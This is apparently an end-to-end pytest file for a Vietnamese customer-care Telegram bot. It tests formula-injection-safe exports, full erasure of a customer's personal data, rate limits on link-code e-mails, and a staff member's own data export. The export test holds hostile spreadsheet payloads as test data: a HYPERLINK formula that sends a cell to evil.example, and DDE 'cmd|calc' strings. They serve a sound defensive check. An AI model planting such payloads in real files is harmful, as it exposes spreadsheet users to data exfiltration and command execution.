"""Data protection tried the way an attacker, and a customer exercising their rights, would:
a hostile name exported to a spreadsheet, an erased customer searched for everywhere,
code e-mails asked for from several accounts, a staff member's own copy of their data."""

from __future__ import annotations

import asyncio
import csv
import email
import json
import os
import sys
from datetime import timedelta
from email import policy
from pathlib import Path
from typing import Any

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import JSON, BigInteger, LargeBinary, String, Text, select
from sqlalchemy.engine import make_url

from care.core.models import Base, Customer, Order, OutboxMessage
from care.core.settings import Settings
from care.core.text import utcnow
from scheduler.dispatcher import Dispatcher
from tests.builders import database_env, make_customer, make_order

pytestmark = pytest.mark.e2e

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'

NAME = "Trần Thị Lan Anh"
EMAIL = "lan.anh@example.com"
PHONES = ("+84912345678", "84912345678", "0912345678", "0912 345 678", "+84 912 345 678")


# --- helpers ---------------------------------------------------------------------------------


async def register(bot, person, name: str, phone: str, email_address: str | None = None):
    """A stranger registers through the bot: contact, "new customer", name, e-mail, birthday."""
    await person.shares_contact(phone)
    await person.presses("Đăng ký khách hàng mới")
    await person.says(name)
    await person.says(email_address or "/skip")
    welcome = await person.says("/skip")
    assert "Chào mừng" in welcome.text, welcome.text
    async with bot.services.db.uow() as uow:
        customer = await uow.session.scalar(
            select(Customer).where(Customer.telegram_user_id == person.id)
        )
        uow.session.expunge(customer)
    return customer


async def drain(bot) -> dict[str, int]:
    """What `carebot run` does in the background: send the outbox (Telegram, .eml files)."""
    dispatcher = Dispatcher.create(bot.services, bot.application.bot)
    try:
        return dict(await dispatcher.drain())
    finally:
        await dispatcher.close()


async def carebot(settings: Settings, *args: str, answer: str = "") -> tuple[int, str]:
    """Run the `carebot` command as a shop would, on the test's database."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CAREBOT_")}
    env |= database_env(settings) | {"CAREBOT_OUTBOX_DIR": str(settings.outbox_dir)}
    process = await asyncio.create_subprocess_exec(
        str(Path(sys.executable).with_name("carebot")),
        *args,
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=env,
        cwd=settings.outbox_dir.parent,
    )
    output, _ = await asyncio.wait_for(process.communicate(answer.encode()), timeout=180)
    return process.returncode or 0, output.decode()


def _readable(value: Any) -> str:
    """A stored value as text a person could read: JSON as JSON, e-mail bytes decoded."""
    if isinstance(value, bytes | bytearray):
        parts = [bytes(value).decode("utf-8", "replace")]
        message = email.message_from_bytes(bytes(value), policy=policy.default)
        for part in message.walk():
            if not part.is_multipart():
                parts.append(str(part.get_content()))
        parts.extend(str(v) for v in message.values())
        return "\n".join(parts)
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False)


async def left_in_database(services, needles: list[str], telegram_id: int) -> list[str]:
    """Every text, JSON and binary column of every table searched for the needles, and
    every Telegram id column for the person's account."""
    found = []
    async with services.db.engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            columns = [
                c
                for c in table.columns
                if isinstance(c.type, String | Text | JSON | LargeBinary | BigInteger)
            ]
            if not columns:
                continue
            for row in await conn.execute(select(*columns)):
                for column, value in zip(columns, row, strict=True):
                    if value is None:
                        continue
                    where = f"{table.name}.{column.name}"
                    if isinstance(column.type, BigInteger):
                        if value == telegram_id:
                            found.append(f"{where} = {value}")
                        continue
                    text = _readable(value)
                    found += [f"{where}: {n!r} in {text[:120]!r}" for n in needles if n in text]
    return found


def left_in_files(directory: Path, needles: list[str]) -> list[str]:
    """Every file under OUTBOX_DIR (e-mails, the send journal) searched for the needles."""
    found = []
    for path in directory.rglob("*"):
        if path.is_file():
            text = _readable(path.read_bytes())
            found += [f"{path.name}: {n!r}" for n in needles if n in text]
    return found


def left_on_disk(settings: Settings, needles: list[str]) -> list[str]:
    """The SQLite database and its write-ahead log, byte for byte (freed pages included)."""
    url = make_url(settings.database_url)
    if not url.drivername.startswith("sqlite"):
        return []
    found = []
    for suffix in ("", "-wal"):
        path = Path(f"{url.database}{suffix}")
        if path.exists():
            data = path.read_bytes()
            found += [f"{path.name}: {n!r}" for n in needles if n.encode() in data]
    return found


# --- formula injection -----------------------------------------------------------------------


async def test_hostile_names_from_the_bot_are_exported_as_text(bot, tmp_path):
    """Strangers register with names that are formulas; the shop exports its customers."""
    hostile = [
        HYPERLINK,
        '+HYPERLINK("http://evil.example/?x="&A2,"Xem")',
        "-2+3+cmd|' /C calc'!A0 Lan",
        "@SUM(1+1)*cmd|' /C calc'!A0 Lan",
    ]
    for n, name in enumerate(hostile):
        await register(bot, bot.customer(f"Khách {n}"), name, f"0987 000 11{n}")
    # Tabs and carriage returns do not survive the bot's own input cleaning; a record
    # can still hold them (an import, another front end), so they are tried too.
    for n, name in enumerate(["\t=1+1 Lan", "\r=1+1 Lan"]):
        hostile.append(name)
        await make_customer(bot.services, code=f"KH-TAB{n}", name=name)
    await make_customer(
        bot.services, code="KH-PHONE", name="Phạm Văn Phúc", region="+84 91 234 5678"
    )  # a phone number typed as the region

    for file in ("khach.xlsx", "khach.csv"):
        code, output = await carebot(bot.settings, "export", "customers", str(tmp_path / file))
        assert code == 0, output

    sheet = load_workbook(tmp_path / "khach.xlsx").active
    header = [cell.value for cell in sheet[1]]
    name_at, region_at = header.index("name"), header.index("region")
    rows = list(sheet.iter_rows(min_row=2))
    assert [cell.coordinate for row in rows for cell in row if cell.data_type == "f"] == []
    names = {row[name_at].value for row in rows}
    assert {name.replace("\r", "\n") for name in hostile} <= names  # as typed, as text
    assert all(row[name_at].quotePrefix for row in rows if row[name_at].value[:1] in "=+-@\t\n")
    assert "+84 91 234 5678" in {row[region_at].value for row in rows}

    with (tmp_path / "khach.csv").open(encoding="utf-8-sig", newline="") as handle:
        by_name = {row["name"]: row for row in csv.DictReader(handle)}
    for name in hostile:
        assert "'" + name in by_name, name  # the apostrophe: a spreadsheet reads text
    assert by_name["Phạm Văn Phúc"]["region"] == "+84 91 234 5678"  # a phone stays a phone


# --- erasure ---------------------------------------------------------------------------------


async def test_an_erased_customer_is_found_nowhere(bot, clock):
    """Everything that ever held her name, phone or e-mail, searched after /forgetme."""
    lan = bot.customer("Lan")
    customer = await register(bot, lan, NAME, "0912 345 678", EMAIL)
    order = await make_order(bot.services, customer, amount=1_250_000)
    minh = await bot.staff_member("Minh")
    attacker = bot.customer("Kẻ lạ")

    # She asks something the FAQ cannot answer (unmet demand keeps the question).
    await lan.says("Shop giao tới nhà em không, gọi em số 0912 345 678 nhé")
    # Someone asks for a link code for her customer code: an e-mail to her address.
    await attacker.shares_contact("0933 000 999")
    await attacker.presses("Tôi có mã khách hàng")
    assert "đã gửi" in (await attacker.says(customer.code)).text
    # She files a complaint with a photo; the card goes to the staff chat.
    await lan.says("/complaint")
    await lan.presses("complaint:cat:delivery")
    await lan.presses(f"complaint:order:{order.id}")
    await lan.sends_photo(caption=f"Hộp bị móp. Liên hệ em qua {EMAIL}")
    await lan.presses("complaint:sev:high")
    ticket = (await bot.services.complaints.open_tickets())[0]
    card = await bot.sandbox.wait_for(bot.staff_chat, lambda m: ticket.code in m.text)
    assert NAME in card.text and "0912 345 678" in card.text
    # Nobody answers in time: the deadline alerts name her in the staff chat.
    assert await bot.services.deadlines.check(now=clock.now + timedelta(days=4))
    await drain(bot)
    assert any(
        EMAIL in path.read_text(errors="replace") for path in bot.settings.outbox_dir.glob("*.eml")
    )  # the code e-mail, on disk
    # Staff work the ticket: claim, a reply quoting her number, her answer, the details,
    # her card looked up in private, the ticket list, the resolution.
    await minh.presses(f"ticket:claim:{ticket.id}", card)
    await lan.next_message()
    await minh.says_in(
        bot.staff_chat,
        "Chị Lan Anh ơi, em gọi số 0912 345 678 được không ạ?",
        reply_to=card.message_id,
    )
    await lan.next_message()
    await lan.sends("Được em, gọi sau 5 giờ chiều nhé, số 0912345678")
    await bot.sandbox.wait_for(bot.staff_chat, lambda m: "5 giờ chiều" in m.text)
    await minh.presses(f"ticket:details:{ticket.id}", card)
    assert NAME in (await minh.says("/customer 0912345678")).text
    await minh.says_in(bot.staff_chat, "/tickets")
    await bot.sandbox.wait_for(bot.staff_chat, lambda m: "KN-" in m.text and NAME in m.text)
    await minh.says_in(bot.staff_chat, f"/resolve {ticket.code} Đã đổi hộp mới cho chị {NAME}")
    resolved = await lan.next_message()
    survey_id = int(resolved.buttons[0][1].split(":")[1])
    for question in ("csat", "skip_servqual", "skip_nps"):
        await bot.services.surveys.answer(
            survey_id, lan.id, question, 5 if question == "csat" else None
        )
    await bot.services.surveys.comment(survey_id, lan.id, f"Rất hài lòng, {NAME} {EMAIL}")
    await bot.services.policies.grant(
        customer.id, "free_shipping", value=30_000, note=f"Xin lỗi chị {NAME}"
    )

    # She exercises her right to erasure.
    await lan.says("/forgetme")
    assert "Đã xoá dữ liệu cá nhân" in (await lan.presses("forget:yes")).text
    await drain(bot)  # the staff-chat messages about her are edited

    needles = [NAME, str(escape(NAME)), EMAIL, *PHONES]
    assert await left_in_database(bot.services, [*needles, str(lan.id)], lan.id) == []
    assert left_in_files(bot.settings.outbox_dir, needles) == []
    assert left_on_disk(bot.settings, needles) == []
    shown = [m for m in bot.sandbox.sent(bot.staff_chat) + bot.sandbox.sent(minh.id)]
    assert [m.text for m in shown if any(n in m.text or n in m.raw_text for n in needles)] == []
    assert "xoá" in card.text and card.buttons == []  # the card says she was erased
    # What the books need stays, without her: the order's amount and dates.
    async with bot.services.db.uow() as uow:
        kept = await uow.session.get(Order, order.id)
        assert (kept.amount, kept.placed_at, kept.customer_id) == (
            1_250_000,
            order.placed_at,
            customer.id,
        )


async def test_the_shop_erases_a_customer_who_asked_by_letter(bot, clock):
    """`carebot customer forget CODE`: asks first; --yes for scripts; the same erasure."""
    lan = bot.customer("Lan")
    customer = await register(bot, lan, NAME, "0912 345 678", EMAIL)
    await lan.says("/complaint")
    await lan.presses("complaint:cat:delivery")
    await lan.says(f"Giao trễ, gọi {NAME} số 0912345678")
    await lan.presses("complaint:sev:low")
    ticket = (await bot.services.complaints.open_tickets())[0]
    card = await bot.sandbox.wait_for(bot.staff_chat, lambda m: ticket.code in m.text)

    code, output = await carebot(bot.settings, "customer", "forget", customer.code, answer="n\n")
    assert code == 1 and "nothing was erased" in output
    assert NAME in output  # whom it was about to erase
    assert (await bot.services.customers.by_code(customer.code)).name == NAME

    code, output = await carebot(
        bot.settings, "customer", "forget", customer.code.lower(), answer="y\n"
    )
    assert code == 0, output
    assert f"{customer.code} erased" in output
    clock.now = max(clock.now, utcnow())  # the command queued the card's edit on the real clock
    await drain(bot)  # what `carebot run` does with it

    needles = [NAME, EMAIL, *PHONES]
    assert await left_in_database(bot.services, [*needles, str(lan.id)], lan.id) == []
    assert NAME not in card.text and ticket.code in card.text and "xoá" in card.text
    code, output = await carebot(bot.settings, "customer", "forget", customer.code, "--yes")
    assert code == 0 and "nothing left to erase" in output
    code, output = await carebot(bot.settings, "customer", "forget", "KH-NOBODY", "--yes")
    assert code == 1 and "no customer has the code" in output


# --- link codes ------------------------------------------------------------------------------


async def test_two_accounts_asking_codes_for_one_customer_hit_the_cap_together(bot, clock):
    await make_customer(bot.services, code="KH-0042", email="lan@example.com")
    first, second = bot.customer("Một"), bot.customer("Hai")
    limit = bot.settings.link_code_emails_per_day

    async def ask(person):
        await person.shares_contact(f"0933 000 {person.id % 1000:03d}")
        await person.presses("Tôi có mã khách hàng")
        return await person.says("KH-0042")

    for n in range(limit):
        assert "đã gửi" in (await ask(first if n % 2 == 0 else second)).text
        clock.advance(minutes=bot.settings.link_code_ttl_minutes + 1)  # the last code expired
    capped = await ask(second)
    again = await ask(first)

    assert f"đã nhận đủ {limit} e-mail" in capped.text
    assert again.text == capped.text
    async with bot.services.db.uow() as uow:
        emails = (await uow.session.scalars(select(OutboxMessage))).all()
    assert len(emails) == limit


async def test_the_cap_is_explained_in_english_too(bot):
    lan = await make_customer(bot.services, code="KH-0042", email="lan@example.com")
    john = bot.customer("John", language="en")
    async with bot.services.db.uow() as uow:  # today's code e-mails, asked for by others
        for n in range(bot.settings.link_code_emails_per_day):
            uow.session.add(
                OutboxMessage(
                    idempotency_key=f"linkcode:{n}",
                    channel="email",
                    recipient="lan@example.com",
                    template="link_code_email",
                    body="",
                    customer_id=lan.id,
                    created_at=bot.services.clock(),
                )
            )
        await uow.commit()
    await john.shares_contact("0933 000 777")
    await john.presses("I have a customer code")

    answer = await john.says("KH-0042")

    assert "already received 3 confirmation-code e-mails" in answer.text


# --- a staff member who is a customer too ----------------------------------------------------


async def test_a_staff_members_own_data_holds_none_of_their_staff_work(bot):
    lan = bot.customer("Lan")
    await register(bot, lan, NAME, "0912 345 678", EMAIL)
    minh = await bot.staff_member("Minh")
    me = await make_customer(
        bot.services, code="KH-MINH", name="Lê Văn Minh", telegram_user_id=minh.id
    )
    await make_order(bot.services, me, code="DH-MINH1")
    await lan.says("/complaint")
    await lan.presses("complaint:cat:delivery")
    await lan.says("Giao trễ ba ngày")
    await lan.presses("complaint:sev:low")
    ticket = (await bot.services.complaints.open_tickets())[0]
    card = await bot.sandbox.wait_for(bot.staff_chat, lambda m: ticket.code in m.text)

    # His staff work: in the staff chat and in his private chat with the bot.
    await minh.presses(f"ticket:claim:{ticket.id}", card)
    await minh.says_in(bot.staff_chat, "Em gọi chị Lan Anh ngay ạ", reply_to=card.message_id)
    await lan.next_message()
    await minh.says_in(bot.staff_chat, "/tickets")
    await bot.sandbox.wait_for(bot.staff_chat, lambda m: NAME in m.text)
    assert NAME in (await minh.says("/customer 0912345678")).text
    # And what he does as a customer.
    await minh.says("/orders")

    document = await minh.says("/mydata")

    data = json.loads(bot.sandbox.world.files[document.document["file_id"]].data)
    assert data["profile"]["code"] == "KH-MINH"
    assert [o["code"] for o in data["orders"]] == ["DH-MINH1"]
    said = [i["text"] for i in data["interactions"] if i["direction"] == "in"]
    assert said == ["/orders", "/mydata"]
    everything = json.dumps(data, ensure_ascii=False)
    for theirs in (NAME, "0912 345 678", EMAIL, ticket.code, "Em gọi chị", "/tickets"):
        assert theirs not in everything, theirs
